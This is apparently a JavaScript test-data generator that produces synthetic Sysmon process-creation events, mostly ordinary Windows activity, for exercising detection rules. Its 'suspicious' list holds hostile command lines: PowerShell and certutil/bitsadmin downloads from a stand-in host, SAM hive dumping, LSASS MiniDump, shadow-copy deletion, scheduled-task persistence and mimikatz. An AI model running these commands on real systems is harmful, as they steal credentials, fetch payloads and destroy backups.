// @ts-check
import { randomNumbers } from './statistics.mjs';

/**
 * Process creations as Sysmon writes them, flat, about 1.5 KB each as JSON: mostly the daily noise of a Windows computer,
 * and one in a hundred something that public rules look for. The same ones for the same seed.
 *
 * @param {number} count
 * @param {number} [seed]
 * @returns {Record<string, string | number>[]}
 */
export function processEvents(count, seed = 20261122) {
  const random = randomNumbers(seed);
  /** @type {<Item>(items: readonly Item[]) => Item} */
  const oneOf = (items) => /** @type {any} */ (items[Math.floor(random() * items.length)]);
  /** @param {number} length */
  const hex = (length) => Array.from({ length }, () => '0123456789ABCDEF'[Math.floor(random() * 16)]).join('');
  const guid = () => `{${hex(8)}-${hex(4)}-${hex(4)}-${hex(4)}-${hex(12)}}`;
  const start = Date.UTC(2026, 10, 22);
  return Array.from({ length: count }, (_, index) => {
    const [image, product, company, lines] = oneOf(random() < 0.01 ? suspicious : usual);
    const [parent, , , parentLines] = oneOf(usual);
    const name = image.slice(image.lastIndexOf('\\') + 1);
    const user = oneOf(users);
    const time = new Date(start + index * 37).toISOString();
    return {
      EventID: 1,
      Version: 5,
      Level: 4,
      Task: 1,
      Opcode: 0,
      Keywords: '0x8000000000000000',
      Channel: 'Microsoft-Windows-Sysmon/Operational',
      Provider_Name: 'Microsoft-Windows-Sysmon',
      Computer: `${oneOf(['WS', 'SRV', 'DC'])}-${Math.floor(random() * 400)}.corp.example.com`,
      EventRecordID: 100_000 + index,
      SystemTime: time,
      Execution_ProcessID: 3208,
      Security_UserID: 'S-1-5-18',
      RuleName: '-',
      UtcTime: time.replace('T', ' ').replace('Z', ''),
      ProcessGuid: guid(),
      ProcessId: Math.floor(random() * 65_536),
      Image: image,
      FileVersion: '10.0.22621.3672 (WinBuild.160101.0800)',
      Description: oneOf(descriptions),
      Product: product,
      Company: company,
      OriginalFileName: name,
      CommandLine: `"${image}" ${filled(oneOf(lines), random)}`,
      CurrentDirectory: oneOf(folders),
      User: user,
      LogonGuid: guid(),
      LogonId: `0x${hex(6).toLowerCase()}`,
      TerminalSessionId: user.startsWith('NT') ? 0 : 1,
      IntegrityLevel: user.startsWith('NT') ? 'System' : oneOf(['Medium', 'High']),
      Hashes: `MD5=${hex(32)},SHA256=${hex(64)},IMPHASH=${hex(32)}`,
      ParentProcessGuid: guid(),
      ParentProcessId: Math.floor(random() * 65_536),
      ParentImage: parent,
      ParentCommandLine: `${parent} ${filled(oneOf(parentLines), random)}`,
      ParentUser: oneOf(users),
    };
  });
}

/**
 * @param {string} line with `#` for a number and `@` for a word that no other event has
 * @param {() => number} random
 */
function filled(line, random) {
  return line.replace(/[#@]/g, (mark) =>
    mark === '#' ? String(Math.floor(random() * 100_000)) : Math.floor(random() * 2 ** 40).toString(36),
  );
}

const system = 'C:\\Windows\\System32\\';
const windows = /** @type {const} */ (['Microsoft® Windows® Operating System', 'Microsoft Corporation']);

/** @typedef {readonly [image: string, product: string, company: string, lines: readonly string[]]} Program */

/** @type {readonly Program[]} */
const usual = [
  [`${system}svchost.exe`, ...windows, ['-k netsvcs -p -s Schedule', '-k LocalService -p -s #', '-k wsappx -p -s @']],
  [`${system}conhost.exe`, ...windows, ['0xffffffff -ForceV1', '--headless --width # --height # --signal 0x@']],
  [`${system}RuntimeBroker.exe`, ...windows, ['-Embedding']],
  [`${system}backgroundTaskHost.exe`, ...windows, ['-ServerName:App.AppX@.mca', '-ServerName:CortanaUI.AppX@.mca']],
  [
    `${system}SearchProtocolHost.exe`,
    ...windows,
    ['Global\\UsGthrFltPipeMssGthrPipe#_ Global\\UsGthrCtrlFltPipe 1 -@'],
  ],
  [`${system}dllhost.exe`, ...windows, ['/Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}', '/Processid:{@}']],
  [`${system}taskhostw.exe`, ...windows, ['', 'Install $(Arg0)', 'KEYROAMING']],
  [`${system}wbem\\WmiPrvSE.exe`, ...windows, ['-secured -Embedding']],
  [
    `${system}cmd.exe`,
    ...windows,
    ['/c "C:\\Tools\\nightly.cmd" @', '/d /s /c "npm run build -- --port=#"', '/c dir C:\\Users\\mira\\@'],
  ],
  [
    `${system}rundll32.exe`,
    ...windows,
    ['shell32.dll,Control_RunDLL desk.cpl', 'C:\\Windows\\System32\\@.dll,Entry #'],
  ],
  [
    `${system}WindowsPowerShell\\v1.0\\powershell.exe`,
    ...windows,
    ['-NoProfile -File C:\\Scripts\\inventory.ps1 -Computer WS-#', '-Command "Get-Service @ | Format-List"'],
  ],
  ['C:\\Windows\\explorer.exe', ...windows, ['', '/factory,{@} -Embedding']],
  [
    'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
    'Google Chrome',
    'Google LLC',
    [
      '--type=renderer --string-annotations --lang=en-US --device-scale-factor=1 --num-raster-threads=4 --renderer-client-id=# --time-ticks-at-unix-epoch=-# --launch-time-ticks=# --field-trial-handle=#,i,@,#,262144 --variations-seed-version /prefetch:1',
      '--type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none --field-trial-handle=#,i,@ /prefetch:3',
    ],
  ],
  [
    'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe',
    'Microsoft Edge',
    'Microsoft Corporation',
    ['--type=gpu-process --gpu-preferences=@ --field-trial-handle=#,i,@ /prefetch:2', '--no-startup-window'],
  ],
  [
    'C:\\Program Files\\Microsoft VS Code\\Code.exe',
    'Visual Studio Code',
    'Microsoft Corporation',
    ['--type=extensionHost --user-data-dir="C:\\Users\\mira\\AppData\\Roaming\\Code" --vscode-window-config=vscode:@'],
  ],
  [
    'C:\\Program Files\\Git\\cmd\\git.exe',
    'Git',
    'The Git Development Community',
    ['status -z -uall', 'for-each-ref --format=%(refname)%00%(objectname) refs/heads/@', 'show --textconv :src/@.ts'],
  ],
  [
    'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
    'Microsoft Office',
    'Microsoft Corporation',
    ['/n "C:\\Users\\mira\\Documents\\@.docx" /o ""'],
  ],
];

/** @type {readonly Program[]} */
const suspicious = [
  [
    `${system}WindowsPowerShell\\v1.0\\powershell.exe`,
    ...windows,
    [
      '-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA@',
      "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7:#/@.ps1')",
    ],
  ],
  [
    `${system}cmd.exe`,
    ...windows,
    ['/c whoami /all > %TEMP%\\@.txt', '/c echo @ > \\\\.\\pipe\\@', '/c net group "domain admins" /dom'],
  ],
  [
    `${system}reg.exe`,
    ...windows,
    [
      'save HKLM\\SAM C:\\Users\\Public\\@.hiv',
      'add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v @ /d C:\\Temp\\@.exe',
    ],
  ],
  [`${system}schtasks.exe`, ...windows, ['/create /tn @ /tr C:\\Users\\Public\\@.exe /sc minute /mo 5 /ru system']],
  [`${system}certutil.exe`, ...windows, ['-urlcache -split -f http://192.0.2.7/@.txt C:\\Temp\\@.exe']],
  [`${system}rundll32.exe`, ...windows, ['C:\\Windows\\System32\\comsvcs.dll, MiniDump # C:\\Temp\\@.dmp full']],
  [`${system}vssadmin.exe`, ...windows, ['delete shadows /all /quiet']],
  [
    `${system}bitsadmin.exe`,
    ...windows,
    ['/transfer @ /download /priority high http://192.0.2.7/@.exe C:\\Temp\\@.exe'],
  ],
  ['C:\\Users\\mira\\AppData\\Local\\Temp\\mimikatz.exe', '-', '-', ['privilege::debug sekurlsa::logonpasswords exit']],
];

const users = ['CORP\\mira', 'CORP\\jonas', 'NT AUTHORITY\\SYSTEM', 'NT AUTHORITY\\NETWORK SERVICE'];
const folders = [system, 'C:\\Users\\mira\\', 'C:\\Program Files\\Git\\', 'C:\\Windows\\Temp\\'];
const descriptions = [
  'Host Process for Windows Services',
  'Console Window Host',
  'Google Chrome',
  'Git for Windows',
  '-',
];
